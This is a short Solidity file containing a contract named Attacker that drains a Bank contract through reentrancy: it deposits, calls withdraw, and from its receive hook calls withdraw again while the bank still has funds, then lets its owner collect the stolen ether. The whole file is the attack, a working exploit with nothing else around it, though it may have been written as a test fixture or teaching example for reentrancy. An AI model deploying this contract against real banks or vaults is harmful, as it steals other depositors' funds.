// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.20;

interface Bank {
    function deposit() external payable;

    function withdraw() external;
}

/// Takes out of a bank what others put in: each time it is paid it asks again. Built for both machines.
contract Attacker {
    Bank private bank;
    address private owner;

    constructor(address target) {
        bank = Bank(target);
        owner = msg.sender;
    }

    receive() external payable {
        if (address(bank).balance >= msg.value) bank.withdraw();
    }

    function attack() external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    function collect() external {
        require(msg.sender == owner, "Attacker: not yours");
        (bool paid, ) = owner.call{value: address(this).balance}("");
        require(paid, "Attacker: not paid");
    }
}
